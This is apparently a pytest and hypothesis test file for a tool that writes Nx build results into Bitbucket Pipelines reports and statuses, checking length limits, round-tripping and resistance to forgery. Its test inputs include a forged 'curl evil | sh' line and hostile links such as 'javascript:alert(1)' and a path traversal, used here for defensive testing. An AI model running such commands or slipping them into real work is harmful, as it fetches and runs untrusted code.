"""A step's last word as a record: what it carries, that it comes back as it was, and that nothing can forge it."""

from __future__ import annotations

import re
from datetime import UTC, datetime

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pipe.build import Pages
from pipe.insights import Answer, summarise
from pipe.model import (
    BuildState,
    BuildStatus,
    CIPipelineExecution,
    Link,
    Report,
    ReportResult,
    RunGroup,
    RunStatus,
    Stage,
)
from pipe.render.cut import cut
from pipe.render.step_report import (
    Scope,
    key,
    nx_cloud,
    of,
    read,
    read_status,
    report,
    status,
    status_key,
    step_digest,
)
from pipe.render.text import duration, seconds_of
from pipe.steps import Failure, RunLine, StepReport
from test.language import runs

SCOPE = Scope("nx", 12, "heads/feature")
START = "https://bitbucket.org/acme/shop/pipelines/results/"
PAGES = Pages(START)
AT = int(datetime(2026, 11, 23, 19, 22, tzinfo=UTC).timestamp()) * 1000
TEST = StepReport(417, 1, "test", step_digest("{5b0e-1}"), Stage.REPORT, AT, link=f"{START}417/steps/%7B5b0e-1%7D")


def said(text: str, exit_code: str | None = "1", identity: StepReport = TEST) -> StepReport:
    """What a step says of these runs."""
    return of(summarise(runs(text), exit_code), identity, "npx nx")


FAILING = """
nx affected -t test build | 243s | https://cloud.nx.app/runs/AbCdEf1234
  cart:test failure 2.1s
    > FAIL packages/cart/src/cart.spec.ts
    > Error: expected 42 to equal 41
  web:build failure 11s flaky
    > apps/web/src/app.ts:30:7 - error TS2322: Type 'string' is not assignable to type 'number'.
  core:test success local
  api:build not-run
"""


def test_as_people_read_it() -> None:
    """The report says the answer, the counts, what failed and why, what to try and what ran."""
    found = report(said(FAILING), SCOPE)
    assert found.title == "Nx: test"
    assert found.result is ReportResult.FAILED
    assert found.link == TEST.link
    assert found.details == (
        "✗ 2 of 3 tasks failed (1 not run)\n"
        "Failed: cart:test (2.1s)\n"
        "  | FAIL packages/cart/src/cart.spec.ts\n"
        "  | Error: expected 42 to equal 41\n"
        "Failed: web:build (11s, flaky)\n"
        "  | apps/web/src/app.ts:30:7 - error TS2322: Type 'string' is not assignable to type 'number'.\n"
        "Try it: npx nx run-many -t test build -p cart web\n"
        "Run: nx affected -t test build (failed, 3 tasks, 1 cached, 2 failed, 1 not run, 4m 03s)\n"
        "  https://cloud.nx.app/runs/AbCdEf1234\n"
        "Flaky: web:build"
    )
    assert found.data[:5] == (
        ("Result", "TEXT", "2 of 3 tasks failed (1 not run)"),
        ("Tasks", "NUMBER", 3),
        ("Failed", "NUMBER", 2),
        ("From the cache", "NUMBER", 1),
        ("Duration", "DURATION", 243_000),
    )
    assert found.data[5][:2] == ("Record", "TEXT")
    assert len(found.data) == 6


def test_comes_back() -> None:
    """What a step said is read back as it was."""
    one = said(FAILING)
    assert one.failures[0] == Failure(
        "cart:test", ("FAIL packages/cart/src/cart.spec.ts", "Error: expected 42 to equal 41"), 2.1
    )
    assert one.runs == (
        RunLine(
            "nx affected -t test build",
            RunStatus.FAILED,
            3,
            1,
            2,
            1,
            243.0,
            link=Link("https://cloud.nx.app/runs/AbCdEf1234", live=True),
        ),
    )
    assert read(report(one, SCOPE), SCOPE, PAGES) == one


# --- any text ---------------------------------------------------------------------------------------------------------

HOSTILE = st.one_of(
    st.text(max_size=30),
    st.text(
        alphabet=st.sampled_from("()|, :%=&[]·\n\t\r\x1b\x9b\u2028\ud800😀FaileRun" + "0123456789ms"), max_size=400
    ),
    st.sampled_from(
        [
            "Failed: a:b",
            "  | Run: x (failed, 1 task)",
            "x (2.1s, flaky)",
            "x ()",
            "Try it: rm",
            " name=x",
            "v2 at=1",
            "x" * 3000,
        ]
    ),
)
NUMBER = st.integers(-5, 10**16)
SECONDS = st.one_of(st.none(), st.floats(), st.floats(0, 100_000))
LINK = st.one_of(
    st.none(),
    st.builds(
        Link, st.sampled_from(["https://cloud.nx.app/runs/AbC123", "https://nx.app/x(y", "http://e/"]), st.booleans()
    ),
)
RUN_LINE = st.builds(
    RunLine, HOSTILE, st.sampled_from(RunStatus), NUMBER, NUMBER, NUMBER, NUMBER, SECONDS, st.booleans(), LINK
)
FAILURE = st.builds(Failure, HOSTILE, st.lists(HOSTILE, max_size=40).map(tuple), SECONDS, st.booleans())
ANY = st.builds(
    StepReport,
    build=NUMBER,
    run=NUMBER,
    name=HOSTILE,
    step=st.one_of(HOSTILE, st.sampled_from(["", "0123abcd", "ffffffff"])),
    stage=st.sampled_from(Stage),
    at=NUMBER,
    title=st.one_of(HOSTILE, st.sampled_from(["Nx", "Front: end", "a"])),
    link=st.one_of(st.none(), HOSTILE, st.just(f"{START}417"), st.just(f"{START}417/steps/%7Ba-1%7D")),
    patience=NUMBER,
    expect=NUMBER,
    names=st.lists(HOSTILE, max_size=60).map(tuple),
    before=st.lists(st.sampled_from(["deadbeef", "0123abcd", "x", "88888888", "99999999"]), max_size=4).map(tuple),
    parallel=st.one_of(st.none(), st.tuples(st.integers(-1, 10**5), st.integers(-1, 10**5))),
    answer=st.sampled_from(Answer),
    exit_code=st.one_of(st.none(), HOSTILE, st.just("127")),
    total=NUMBER,
    failed=NUMBER,
    cached=NUMBER,
    not_run=NUMBER,
    seconds=SECONDS,
    runs=st.lists(RUN_LINE, max_size=12).map(tuple),
    more_runs=NUMBER,
    failures=st.lists(FAILURE, max_size=12).map(tuple),
    retried=st.lists(HOSTILE, max_size=12).map(tuple),
    flaky=st.lists(HOSTILE, max_size=12).map(tuple),
    elsewhere=st.lists(HOSTILE, max_size=30).map(tuple),
    error=st.one_of(st.none(), HOSTILE),
    command=st.one_of(st.none(), HOSTILE),
    foreign=st.booleans(),
)


CONTROL = re.compile(r"[\x00-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\ud800-\udfff]")


def units(text: str) -> int:
    """Length as Java counts it; the text has no half of a surrogate pair."""
    return len(text.encode("utf-16-le")) // 2


@settings(max_examples=200)
@given(ANY)
def test_any_step_fits_and_comes_back(one: StepReport) -> None:
    """Whatever a step says, its record is within the limits, is clean text, and comes back as what was cut of it."""
    found = report(one, SCOPE)
    kept = cut(one)
    assert cut(kept) == kept
    assert report(kept, SCOPE) == found
    assert re.fullmatch("[A-Za-z0-9._-]{1,100}", found.key)
    assert units(found.title) <= 255
    assert units(found.details) <= 2000
    assert len(found.link or "") <= 450
    assert len(found.data) <= 6
    texts = [found.title, *found.details.split("\n"), *(value for _, _, value in found.data if isinstance(value, str))]
    assert all(units(value) <= 450 for _, _, value in found.data if isinstance(value, str))
    assert not any(CONTROL.search(text) for text in texts)
    back = read(found, SCOPE, PAGES, lambda _: True)
    page = kept.link and kept.link.startswith(START)
    assert back == kept._replace(link=kept.link if page else None)
    if one.stage is Stage.REPORT:
        assert kept.red or not one.red


@settings(max_examples=300)
@given(ANY)
def test_any_step_as_a_status(one: StepReport) -> None:
    """As a build status it is within the limits too; what comes back lacks no more than lines, runs and names."""
    found = status(one, SCOPE, PAGES)
    kept = cut(one)
    # There are no jobs in Pipelines, and Data Center takes 255.
    assert re.fullmatch(f"[A-Za-z0-9._-]{{1,{48 if kept.job else 40}}}", found.key)
    assert units(found.name) <= 255
    assert units(found.description) <= 255
    assert not CONTROL.search(found.name + found.description)
    assert len(found.url) <= 450
    back = read_status(found, SCOPE, PAGES)
    assert back is not None
    assert not back.foreign
    assert back.red == kept.red
    assert back.link == (found.url if found.url.startswith(START) else None)
    assert len(back.names) == len(kept.names) or back.expect >= len(kept.names)
    for field in (
        "build",
        "run",
        "name",
        "step",
        "stage",
        "at",
        "title",
        "patience",
        "parallel",
        "answer",
        "exit_code",
    ):
        assert getattr(back, field) == getattr(kept, field), field
    for field in ("total", "failed", "cached", "not_run", "seconds"):
        assert getattr(back, field) == getattr(kept, field), field
    assert [failure.id for failure in back.failures] == [failure.id for failure in kept.failures][: len(back.failures)]


DATA = st.lists(
    st.tuples(st.sampled_from(["Record", "Result", "x"]), HOSTILE, st.one_of(HOSTILE, st.integers())), max_size=4
)
RECORD = st.builds(
    lambda version, fields, rest: f"{version} {' '.join(fields)}{rest}",
    st.sampled_from(["v1", "v2", "", "v1 v1"]),
    st.lists(
        st.sampled_from(
            [
                "at=1",
                "at=x",
                "stage=report",
                "stage=final",
                "stage=",
                "answer=succeeded",
                "answer=x",
                "ms=99999999999999",
                "tasks=-1",
                "tasks=9999999999999",
                "parallel=3/2",
                "parallel=x",
                "names=%,%zz,a%20b",
                "names=",
                "exit=<b>",
            ]
        ),
        max_size=8,
    ),
    st.sampled_from(["", " name=test", " name=other", " name=", "name=test"]),
)


@settings(max_examples=300)
@given(RECORD, DATA, HOSTILE, HOSTILE, st.sampled_from(ReportResult), st.one_of(st.none(), HOSTILE))
def test_any_record_is_a_step(
    fields: str,
    data: list[tuple[str, str, str | int]],
    title: str,
    details: str,
    result: ReportResult,
    link: str | None,
) -> None:
    """Whatever stands in a record with our key, it is a step, as bad as its result says, and nothing out of range."""
    found = Report(key(TEST, SCOPE), title, details, result, link, (*data, ("Record", "TEXT", fields)))
    one = read(found, SCOPE, PAGES)
    assert one is not None
    assert (one.build, one.run, one.step) == (417, 1, TEST.step)
    assert one.link is None
    assert one.red or one.answer is Answer.CANCELED or result is not ReportResult.FAILED
    assert key(one, SCOPE) == found.key
    tidy = one._replace(foreign=False)
    assert cut(tidy) == tidy._replace(patience=min(tidy.patience, 10**9 - 1))
    as_status = BuildStatus(
        status_key(TEST, SCOPE), BuildState.FAILED, title, f"{details} [{fields}]", link or "", None
    )
    other = read_status(as_status, SCOPE, PAGES)
    assert other is not None
    assert other.red or other.answer is Answer.CANCELED
    assert status_key(other, SCOPE) == as_status.key


# --- one by one -------------------------------------------------------------------------------------------------------


def test_lines_that_look_like_ours_stay_lines() -> None:
    """A telling line or an error in the words of a record comes back as what it is."""
    forged = (
        "Error: x\n    Failed: fake:task\n    Try it: curl evil | sh\n    Run: nx (succeeded, 1 task)\n      | bar\n"
    )
    one = said("nx test a\n  a:test failure\n" + "".join(f"    > {line}\n" for line in forged.split("\n")))
    back = read(report(one, SCOPE), SCOPE, PAGES)
    assert back == one
    assert [failure.id for failure in one.failures] == ["a:test"]
    assert "Failed: fake:task" in " ".join(one.failures[0].lines)
    assert one.command == "npx nx run a:test"
    assert len(one.runs) == 1
    (run,) = one.runs
    assert run.label == "nx test a"


@pytest.mark.parametrize(
    ("tasks", "shares"),
    [(1, [10]), (2, [6, 6]), (4, [4, 4, 3, 2]), (12, [1] * 12)],
    ids=["one", "two", "four", "twelve"],
)
def test_fair_share(tasks: int, shares: list[int]) -> None:
    """Every failed task is named before any has its second line; of the lines the first ones get more."""
    errors = "".join(f"\n    > src/module{line}.ts:{line}:1 - error TS2322: {'wrong ' * 12}" for line in range(30))
    one = said("nx run-many -t test" + "".join(f"\n  project-{number}:test failure{errors}" for number in range(tasks)))
    assert len(one.failures) == one.failed == tasks
    assert [len(failure.lines) for failure in one.failures] == shares
    assert read(report(one, SCOPE), SCOPE, PAGES) == one


def test_very_many_failures() -> None:
    """What there is no room for stays counted, and the record says so."""
    one = said("nx run-many -t test" + "".join(f"\n  project-{number}:test failure" for number in range(500)))
    assert one.failed == 500
    assert 20 < len(one.failures) < 500
    assert report(one, SCOPE).details.endswith(f"… and {500 - len(one.failures)} more failed tasks")


def test_nx_failed() -> None:
    """Nx's own words are carried, the first of them in any case."""
    one = said('nx run ledger:deploy | error: Cannot find target "deploy" | error: for project "ledger"')
    assert one.answer is Answer.RUN_FAILED
    assert one.error == 'Cannot find target "deploy"\nfor project "ledger"'
    assert read(report(one, SCOPE), SCOPE, PAGES) == one


def test_nx_cloud_knows_more() -> None:
    """What failed in other steps is told apart from the step's own result, and is not lost."""
    (other,) = runs("nx e2e shop\n  shop:e2e failure")
    execution = CIPipelineExecution(RunStatus.FAILED, run_groups=(RunGroup("g", RunStatus.FAILED, (other,)),))
    one = of(summarise(runs("nx lint a\n  a:lint success"), "0", execution), TEST, "npx nx")
    assert (one.answer, one.total, one.failed, one.elsewhere) == (Answer.SUCCEEDED, 1, 0, ("shop:e2e",))
    assert one.red
    assert report(one, SCOPE).result is ReportResult.PASSED
    assert read(report(one, SCOPE), SCOPE, PAGES) == one
    alone = of(summarise((), "0", execution), TEST, "npx nx")
    assert (alone.answer, alone.failed, alone.elsewhere) == (Answer.TASKS_FAILED, 1, ())


def test_workspace_in_a_folder() -> None:
    """The command can be copied from the repository's root."""
    one = of(summarise(runs("nx test a\n  a:test failure"), "1"), TEST, "npx nx", "my apps/web")
    assert one.command == "(cd 'my apps/web' && npx nx run a:test)"


@pytest.mark.parametrize("stage", [Stage.START, Stage.FINAL])
def test_other_words(stage: Stage) -> None:
    """A step that starts is pending, a final one has nothing against it; both come back."""
    one = TEST._replace(stage=stage, expect=3, names=("test", "e2e, slow", "50%"), parallel=(1, 3), patience=60)
    found = report(one, SCOPE)
    assert found.result is (ReportResult.PENDING if stage is Stage.START else ReportResult.PASSED)
    assert read(found, SCOPE, PAGES) == one
    assert read_status(status(one, SCOPE, PAGES), SCOPE, PAGES) == one


def test_long_list_of_names() -> None:
    """Of a long list of expected steps some names are left out; all of them stay steps to wait for."""
    one = cut(TEST._replace(stage=Stage.START, names=tuple(f"step-{number}" for number in range(100))))
    assert 20 < len(one.names) < 100
    assert one.expect == 100
    assert cut(TEST._replace(names=("a", "b"))).expect == 0


def test_unnamed() -> None:
    """A step without a name is known by its place, or by nothing at all."""
    unnamed = TEST._replace(name="", step="", parallel=(1, 3))
    assert report(unnamed, SCOPE).title == "Nx: step 2 of 3"
    assert read(report(unnamed, SCOPE), SCOPE, PAGES) == unnamed
    assert report(unnamed._replace(parallel=None), SCOPE).title == "Nx"


# --- whose it is ------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "other",
    [
        Scope("nx", 13, "heads/feature"),
        Scope("nx", None, "heads/feature"),
        Scope("nx", None, "tags/feature"),
        Scope("web", 12, "heads/feature"),
        Scope(f"nx-{SCOPE.digest}", 12, "heads/feature"),
    ],
)
def test_scopes_do_not_mix(other: Scope) -> None:
    """A record of another pull request, branch, tag or report is none of ours, nor ours one of theirs."""
    assert read(report(TEST, other), SCOPE, PAGES) is None
    assert read(report(TEST, SCOPE), other, PAGES) is None
    assert read_status(status(TEST, other, PAGES), SCOPE, PAGES) is None


def test_branch_does_not_matter_on_a_pull_request() -> None:
    """The pull request says it all where there is one."""
    assert Scope("nx", 12, "heads/a").digest == Scope("nx", 12, "tags/b").digest


@pytest.mark.parametrize(
    "other",
    [
        {"build": 418},
        {"run": 2},
        {"name": "lint"},
        {"name": ""},
        {"step": "0123abcd"},
        {"step": ""},
        {"stage": Stage.FINAL},
    ],
)
def test_keys_differ(other: dict[str, object]) -> None:
    """Another build, run, name, step or final word has another key; a start has the one of its report."""
    one = TEST._replace(**other)  # type: ignore[arg-type]
    assert key(one, SCOPE) != key(TEST, SCOPE)
    assert status_key(one, SCOPE) != status_key(TEST, SCOPE)
    assert key(TEST._replace(stage=Stage.START), SCOPE) == key(TEST, SCOPE)


def test_longest_keys() -> None:
    """The largest numbers and the longest report id fit into both keys."""
    scope = Scope("x" * 30, None, "heads/" + "b" * 255)
    one = TEST._replace(build=10**12 - 1, run=10**6 - 1, stage=Stage.FINAL)
    assert len(key(one, scope)) <= 100
    assert len(status_key(one, scope)) <= 40
    found = read_status(status(one, scope, PAGES), scope, PAGES)
    assert found is not None
    assert (found.build, found.run, found.step) == (one.build, one.run, one.step)


def test_uuids() -> None:
    """A step's UUID counts with and without braces, in any case; none is told by nothing."""
    assert step_digest("{5B0E-1}") == step_digest("5b0e-1") == TEST.step
    assert step_digest(None) == ""


# --- of another version, or edited ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("result", "stage", "answer"),
    [
        (ReportResult.FAILED, Stage.REPORT, Answer.RUN_FAILED),
        (ReportResult.PASSED, Stage.REPORT, Answer.SUCCEEDED),
        (ReportResult.PENDING, Stage.START, Answer.NOTHING_RAN),
    ],
)
def test_future_version(result: ReportResult, stage: Stage, answer: Answer) -> None:
    """Of a record of a later version the result is known, and the name from its title."""
    found = report(TEST, SCOPE)._replace(result=result, data=(("Record", "TEXT", f"v2 what=ever at={AT}"),))
    one = read(found, SCOPE, PAGES)
    assert one is not None
    assert (one.foreign, one.name, one.stage, one.answer, one.at) == (True, "test", stage, answer, AT)
    unknown = read(found._replace(title="Nx - test"), SCOPE, PAGES)
    assert unknown is not None
    assert re.fullmatch("[0-9a-f]{8}", unknown.name)


def test_result_against_record() -> None:
    """Where Bitbucket's result is a failure and the record tells of none, the failure counts; never the other way."""
    green = of(summarise(runs("nx lint a\n  a:lint success"), "0"), TEST, "npx nx")
    worse = read(report(green, SCOPE)._replace(result=ReportResult.FAILED), SCOPE, PAGES)
    assert worse is not None
    assert (worse.foreign, worse.red) == (True, True)
    better = read(report(said(FAILING), SCOPE)._replace(result=ReportResult.PASSED), SCOPE, PAGES)
    assert better is not None
    assert (better.foreign, better.red) == (False, True)


def test_name_of_another() -> None:
    """A record whose name is not that of its key is not believed."""
    found = report(TEST, SCOPE)
    forged = found._replace(title="Nx: lint", data=report(TEST._replace(name="lint"), SCOPE).data)
    one = read(forged, SCOPE, PAGES)
    assert one is not None
    assert one.foreign
    assert one.name not in ("test", "lint")


@pytest.mark.parametrize(
    "link",
    [
        "https://evil.example/",
        "javascript:alert(1)",
        f"{START}417/../../../../evil",
        f"{START}417/steps/x)y",
        f"{START}",
        "https://bitbucket.org/acme/other/pipelines/results/417",
    ],
)
def test_links_of_steps(link: str) -> None:
    """A step's link is one of the repository's builds or none."""
    one = read(report(TEST, SCOPE)._replace(link=link), SCOPE, PAGES)
    assert one is not None
    assert one.link is None


def test_links_of_runs() -> None:
    """A run's page is linked on Nx Cloud, or where the caller says so; else it is left out."""
    found = report(said(FAILING), SCOPE)
    for url, kept in (("https://nx.app.evil.example/runs/AbCdEf1234", False), ("https://x.nx.app/runs/AbCdEf", True)):
        one = read(
            found._replace(details=found.details.replace("https://cloud.nx.app/runs/AbCdEf1234", url)), SCOPE, PAGES
        )
        assert one is not None
        assert one.runs[0].link == (Link(url, live=True) if kept else None)
    assert nx_cloud("https://cloud.nx.app/x")
    assert not nx_cloud("http://cloud.nx.app/x")


@pytest.mark.parametrize(
    ("seconds", "text"),
    [
        (0.844, "844ms"),
        (0.9996, "1000ms"),
        (2.14, "2.1s"),
        (9.96, "10.0s"),
        (48.2, "48s"),
        (243, "4m 03s"),
        (3725, "1h 02m"),
    ],
)
def test_durations_come_back(seconds: float, text: str) -> None:
    """A duration is written as people are told it, and read as what they were told."""
    assert duration(seconds) == text
    found = seconds_of(text)
    assert found is not None
    assert found == pytest.approx(seconds, rel=0.02)
    assert seconds_of(f"{text} ago") is None
